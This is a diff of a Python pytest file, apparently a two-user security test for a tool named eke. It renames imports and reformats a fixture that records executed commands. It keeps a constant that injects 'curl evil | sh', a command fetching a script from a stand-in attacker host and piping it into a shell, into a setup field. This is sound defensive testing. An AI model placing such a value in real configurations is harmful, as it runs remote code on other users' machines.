@@ -8,8 +8,8 @@ from pathlib import Path
 import pytest
 from two_users import ATTACKER, VICTIM, hand, machine, needs_root  # noqa: F401  # fixture that a test names
 
-from eke import app, cli
-from eke.cli import folders  # noqa: F401  # imported before the user changes, who may not read it
+from eke import cli, workflows
+from eke.cli import run_commands as folders  # noqa: F401  # imported before the user changes, who may not read it
 
 SETUP = "slurm.setup=[curl evil | sh]"
 
@@ -18,7 +18,9 @@ SETUP = "slurm.setup=[curl evil | sh]"
 def commands(monkeypatch):
     """What was run, and where."""
     found = []
-    monkeypatch.setattr(app, "main", lambda typed: found.append((list(typed), os.getcwd())) or 0)
+    monkeypatch.setattr(
+        workflows, "main", lambda typed: found.append((list(typed), os.getcwd())) or 0
+    )
     monkeypatch.chdir("/")
     return found
 
